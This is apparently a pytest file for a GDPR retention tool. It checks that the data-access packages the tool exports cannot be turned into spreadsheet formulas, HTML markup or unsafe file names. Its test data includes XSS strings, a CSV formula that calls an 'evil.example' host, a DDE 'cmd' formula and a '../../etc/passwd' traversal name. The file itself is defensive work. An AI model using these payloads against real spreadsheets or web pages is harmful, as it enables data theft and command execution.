"""The files of a package under attack: formulas, markup, odd values, odd names."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, time
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from uuid import UUID

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from retention.catalogue.model import TableName
from retention.installation import Installation
from retention.policy.table import read_policy
from retention.requests.copies import files as package_files
from retention.requests.copies.access import Gathered
from retention.requests.copies.files import About, data_json, file_names, table_csv, zipped
from retention.requests.copies.page import page
from retention.requests.copies.records import GatheredTable, HeldFor, Record, Withheld
from retention.requests.copies.terms import kept
from retention.requests.copies.words import PAGE, category_label
from retention.requests.model import BECAUSE, Kind
from tests.requests_support import request_of, small

AS_OF = date(2026, 11, 24)
CUSTOMERS = TableName("crm.customers")
ATTACKS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><style>*{display:none}",
    "<!-- ", "]]>", "&lt;b&gt;", "javascript:alert(1)",
    "</title></head></html>",
    "{lang}{0}%s",
]  # fmt: skip
VOID = {"meta", "input", "br", "img", "link", "base"}


class Page(HTMLParser):
    """What a browser would make of a page: its tags, attributes and text."""

    def __init__(self, content: bytes) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.text: list[str] = []
        self.feed(content.decode("utf-8"))
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag, f"</{tag}> closes another"

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture(scope="module")
def installation(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Installation]:
    with small(tmp_path_factory.mktemp("files")).opened() as opened:
        yield opened


def record(**values: Any) -> Record:
    held_for = (HeldFor("contract", "active", date(2030, 1, 1)),)
    return Record(
        "active", "active", values, {}, frozenset(), held_for, date(2030, 1, 2),
        earlier={"segment": date(2027, 1, 1)},
    )  # fmt: skip


def about(installation: Installation, *tables: GatheredTable) -> About:
    return About(
        request_of(Kind.access),
        installation.catalogue,
        installation.policy,
        Gathered(AS_OF, tables),
    )


def table(*records: Record, name: str = CUSTOMERS) -> GatheredTable:
    return GatheredTable(TableName(name), ("printer",), records)


def cells(given_table: GatheredTable) -> list[list[str]]:
    text = table_csv(given_table, values_only=True).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


# --- CSV --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1",
        "＝1+1", "＋1", "－1", "＠x", "\N{NO-BREAK SPACE}=1", "=", "-", "+33 6 =1",
        '=HYPERLINK("http://evil.example/?"&A1)', "+1,2,3",
    ],
)  # fmt: skip
def test_no_cell_is_a_formula(text):
    assert cells(table(record(name=text)))[1] == [f"'{text}"]


@pytest.mark.parametrize("text", ["+33612345678", "-12.5", "+33 6 12 34 56 78", "a=1", "'", "1+1"])
def test_what_is_no_formula_stays_as_it_is(text):
    assert cells(table(record(name=text)))[1] == [text]


def test_a_number_keeps_its_sign():
    assert cells(table(record(a=-5, b=-2.5, c=Decimal("-1.50"))))[1] == ["-5", "-2.5", "-1.50"]


def test_a_name_of_a_column_is_no_formula_either():
    assert cells(table(Record("active", "active", {"=1+1": 1}, {}, frozenset(), (), None)))[0] == [
        "'=1+1"
    ]


@given(text=st.text())
def test_any_text_comes_back_from_a_table(text):
    assert cells(table(record(name=text, after="end")))[1] in (
        [text.replace("\0", "\N{REPLACEMENT CHARACTER}"), "end"],
        ["'" + text.replace("\0", "\N{REPLACEMENT CHARACTER}"), "end"],
    )


def test_rows_end_as_rfc_4180_has_it_and_columns_are_those_of_every_record():
    found = table(record(a=1), record(b='say "x", y\r\nz'))
    assert table_csv(found, values_only=True) == (b'a,b\r\n1,\r\n,"say ""x"", y\r\nz"\r\n')


def test_a_table_says_of_each_record_until_when_and_what_is_withheld():
    hidden = replace(record(a=1), withheld={"b": Withheld.secret}, goes_on=None, because="statute")
    head, first, second = csv.reader(
        io.StringIO(table_csv(table(record(a=1), hidden), values_only=False).decode())
    )
    assert head[1:] == [
        "record.place", "record.phase", "record.held_for", "record.goes_on", "record.because",
        "record.withheld",
    ]  # fmt: skip
    assert first[1:] == ["active", "active", "contract until 2030-01-01", "2030-01-02", "", ""]
    assert second[4:] == ["", "statute", "b"]


# --- JSON -------------------------------------------------------------------------------

ODD: dict[str, tuple[Any, Any]] = {
    "decimal": (Decimal("10.50"), "10.50"),
    "day": (date(2026, 1, 2), "2026-01-02"),
    "instant": (datetime(2026, 1, 2, 3, 4, tzinfo=UTC), "2026-01-02T03:04:00+00:00"),
    "time": (time(3, 4), "03:04:00"),
    "bytes": (b"\x00\xff", "AP8="),
    "memory": (memoryview(b"ab"), "YWI="),
    "uuid": (UUID(int=1), "00000000-0000-0000-0000-000000000001"),
    "infinite": (float("inf"), "inf"),
    "no number": (float("nan"), "nan"),
    "large": (2**70, 2**70),
    "nested": ({"a": [Decimal(1), None, {"b": b"x"}]}, {"a": ["1", None, {"b": "eA=="}]}),
    "true": (True, True),
    "none": (None, None),
}


@pytest.mark.parametrize("name", ODD)
def test_odd_values_are_written_and_read_again(installation, name):
    value, expected = ODD[name]
    content = about(installation, table(record(x=value)))
    document = json.loads(data_json(content))
    assert document["tables"][0]["records"][0]["values"] == {"x": expected}
    Page(page(content))
    table_csv(content.gathered.tables[0], values_only=False)


@example(text="a\udc80b\ud800")
@given(text=st.text(st.characters(codec=None, exclude_categories=())))
def test_any_text_comes_back_from_the_file_exactly(installation, text):
    content = about(installation, table(record(x=text)))
    document = json.loads(data_json(content))
    assert document["tables"][0]["records"][0]["values"]["x"] == text


# --- the page ---------------------------------------------------------------------------


def shape(content: bytes) -> list[tuple[str, dict[str, str | None]]]:
    return Page(content).tags


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_is_stored_can_become_markup(installation, attack):
    harmless = shape(page(about(installation, table(record(name="x", email="y")))))
    attacked = page(about(installation, table(record(name=attack, email="y"))))
    assert shape(attacked) == harmless
    assert attack in Page(attacked).text


def test_names_that_are_stored_cannot_become_markup_either(installation):
    hostile = replace(record(), values={ATTACKS[0]: 1}, withheld={ATTACKS[1]: Withheld.secret})
    hostile = replace(hostile, held_for=(HeldFor(ATTACKS[0], "active", None),))
    found = Page(page(about(installation, table(hostile, name=f"crm.{ATTACKS[0]}"))))
    assert not {"script", "img"} & {tag for tag, _ in found.tags}
    assert "".join(found.text).count(ATTACKS[0]) == 2 + 2  # the table twice, purpose, column


@given(text=st.text(st.characters(codec=None, exclude_categories=()), min_size=1))
def test_any_text_is_text_on_the_page(installation, text):
    found = Page(page(about(installation, table(record(name=text)))))
    harmless = shape(page(about(installation, table(record(name="x")))))
    assert found.tags == harmless


@pytest.mark.parametrize("sign", ["\0", "\x1b", "\u202e", "\u2066", "\udc80", "\x7f"])
def test_signs_that_mislead_the_reader_are_made_visible(installation, sign):
    content = page(about(installation, table(record(name=f"a{sign}b")))).decode()
    assert f"a{sign}b" not in content
    assert "a\N{REPLACEMENT CHARACTER}b" in content


def test_letters_of_any_script_stay(installation):
    name = "Zoë Müller-O’Neil 王小明 محمد நா👩\u200d💻"
    assert name in Page(page(about(installation, table(record(name=name))))).text


def test_the_page_loads_nothing_and_runs_nothing(installation):
    content = page(about(installation, table(record(name="x", origin="http://a.example/b.png"))))
    found = Page(content)
    assert found.open == []
    assert {tag for tag, _ in found.tags} <= {
        "html", "head", "meta", "title", "style", "body", "input", "label", "header", "main",
        "footer", "section", "div", "p", "h1", "h2", "table", "thead", "tbody", "tr", "th", "td",
        "a", "span", "strong", "code", "bdi",
    }  # fmt: skip
    loading = {"src", "srcset", "data", "action", "formaction", "background", "poster", "style"}
    for tag, attributes in found.tags:
        assert not loading & set(attributes)
        assert not [name for name in attributes if name.startswith("on")]
        assert tag != "a" or (attributes["href"] or "").startswith("#table-")
    style = re.search(r"<style>(.*)</style>", content.decode(), re.DOTALL)
    assert style
    assert "url(" not in style[1]
    assert "@import" not in style[1]
    assert b"default-src 'none'" in content


def test_a_transfer_out_of_the_union_is_told_with_its_safeguard(installation):
    """GDPR art. 15(2)."""
    here = about(installation, table(record(name="x")))
    assert b"European Union" not in page(here)
    assert json.loads(data_json(here))["recipients"]["printer"]["outside_eu"] is None
    recipients = here.catalogue.recipients
    safeguard = {"outside_eu": "standard clauses <2021>", "outside_eu_fr": "clauses types <2021>"}
    printer = recipients["printer"].model_copy(update=safeguard)
    catalogue = here.catalogue.model_copy(update={"recipients": {**recipients, "printer": printer}})
    there = replace(here, catalogue=catalogue)
    text = "".join(Page(page(there)).text)
    assert "outside the European Union, under this safeguard: standard clauses <2021>" in text
    assert "hors de l'Union européenne, sous cette garantie" in text
    assert "clauses types <2021>" in text
    said = json.loads(data_json(there))["recipients"]["printer"]["outside_eu"]
    assert said == {"en": "standard clauses <2021>", "fr": "clauses types <2021>"}


def test_what_decides_on_the_day_is_said_where_there_is_no_day_yet(installation):
    """GDPR art. 15(1)(d): the period, or the criteria used to determine it."""
    running = replace(record(name="x"), goes_on=None, because="contract_in_force")
    content = about(installation, table(running))
    text = "".join(Page(page(content)).text).replace("\N{NO-BREAK SPACE}", " ")
    document = json.loads(data_json(content))
    for lang, said in (
        (
            "en",
            "in use: 3 years from the latest of: contract (its end), purchase, service rendered",
        ),
        ("fr", "en base active : 3 ans à compter du dernier de ces événements : contrat (sa fin)"),
        ("fr", "dans les archives à accès restreint : 5 ans à compter du dernier"),
    ):
        assert said in text
        assert said in document["purposes"]["contract"]["kept"][lang]


@pytest.mark.parametrize(
    ("purpose", "english", "french"),
    [
        (
            "prospecting",
            "in use: 3 years from the latest of: collection of the data, active response to a "
            "solicitation, the person's own enquiry, consent given or renewed; at once ended by: "
            "consent withdrawn",
            "en base active : 3 ans à compter du dernier de ces événements : collecte des données, "
            "réponse active à une sollicitation, demande de la personne, consentement donné ou "
            "renouvelé ; prend fin dès cet événement : consentement retiré",
        ),
        (
            "trackers",
            "in use: 1 year and 1 month from the first of: deposit of a tracker, since: consent "
            "given or renewed",
            "en base active : 1 an et 1 mois à compter du premier événement : dépôt d'un traceur, "
            "depuis : consentement donné ou renouvelé",
        ),
        (
            "payment",
            "in use: until the latest of: contract (its end), purchase, service rendered; in the "
            "restricted archive: 1 year and 1 month from the latest of: contract (its end), "
            "purchase, service rendered",
            "en base active : jusqu'au dernier de ces événements : contrat (sa fin), achat, service "
            "rendu ; dans les archives à accès restreint : 1 an et 1 mois à compter du dernier de "
            "ces événements : contrat (sa fin), achat, service rendu",
        ),
        (
            "accounting",
            "in the restricted archive: 10 years from the end of the financial year of: issue of an "
            "accounting document",
            "dans les archives à accès restreint : 10 ans à compter de la clôture de l'exercice de "
            "cet événement : émission d'une pièce comptable",
        ),
        (
            "connection_security",
            "in use: 6 months from the latest of: connection; under a pseudonym: 1 year from the "
            "latest of: connection",
            "en base active : 6 mois à compter du dernier de ces événements : connexion au site ; "
            "sous pseudonyme : 1 an à compter du dernier de ces événements : connexion au site",
        ),
    ],
)
def test_every_kind_of_clock_has_words(purpose, english, french):
    policy = read_policy(Path(__file__).parent.parent / "policies" / "callimedia.yaml")
    declared = policy.version_on(AS_OF).purposes[purpose]
    assert kept(declared, policy, "en") == english
    assert kept(declared, policy, "fr") == french


def test_every_sentence_is_there_in_both_languages(installation):
    content = Page(page(about(installation, table(record(name="x")))))
    spoken = [attributes.get("lang") for tag, attributes in content.tags if tag in ("span", "p")]
    assert spoken.count("fr") == spoken.count("en") > 20
    assert PAGE["fr"].keys() == PAGE["en"].keys()
    text = "".join(content.text)
    assert "Votre" not in text.split("Your rights", 1)[1].split("www.cnil.fr")[0]
    for phrase in ("Clients", "Customers", "vous-même", "you <yourself>", "Un imprimeur & fils"):
        assert phrase in text


@pytest.mark.parametrize("because", [*BECAUSE, None])
def test_every_reason_for_having_no_day_can_be_said(installation, because):
    endless = replace(record(name="x"), goes_on=None, because=because)
    text = "".join(Page(page(about(installation, table(endless)))).text)
    assert "no day yet" in text


@pytest.mark.parametrize("phase", ["active", "review", "archive", "expired"])
@pytest.mark.parametrize("place", ["active", "archive"])
def test_every_phase_and_place_has_words(installation, phase, place):
    page(about(installation, table(replace(record(name="x"), phase=phase, place=place))))


def test_a_kind_of_data_without_a_word_takes_its_parents():
    assert category_label("user.contact.email", "fr") == "Adresse électronique"
    assert category_label("user.behavior.media_consumption", "en") == "Activity"
    assert category_label("system.operations", "fr") == "Donnée technique"
    assert category_label("nonsense.of.mine", "en") == "Personal data"


# --- names and the ZIP ------------------------------------------------------------------


def test_names_of_files_are_safe_and_each_its_own():
    names = ["crm.a/b", "crm.a b", "../../etc/passwd", "crm.A_B", "é", ".", "crm.con\0x"]
    found = file_names([GatheredTable(TableName(name), (), ()) for name in names])
    assert len({name.lower() for name in found.values()}) == len(names)
    for name in found.values():
        assert re.fullmatch(r"tables/[A-Za-z0-9_-][A-Za-z0-9_.-]*\.csv", name)
        assert ".." not in name.removesuffix(".csv").split("/")


def test_a_zip_depends_on_its_files_only():
    files = {"b": b"2", "a": b"1"}
    assert zipped(files) == zipped(dict(reversed(files.items())))
    assert zipped(files) != zipped({"a": b"1", "b": b"3"})


def test_the_form_of_the_file_is_numbered():
    assert package_files.SCHEMA == "retention-package/1"
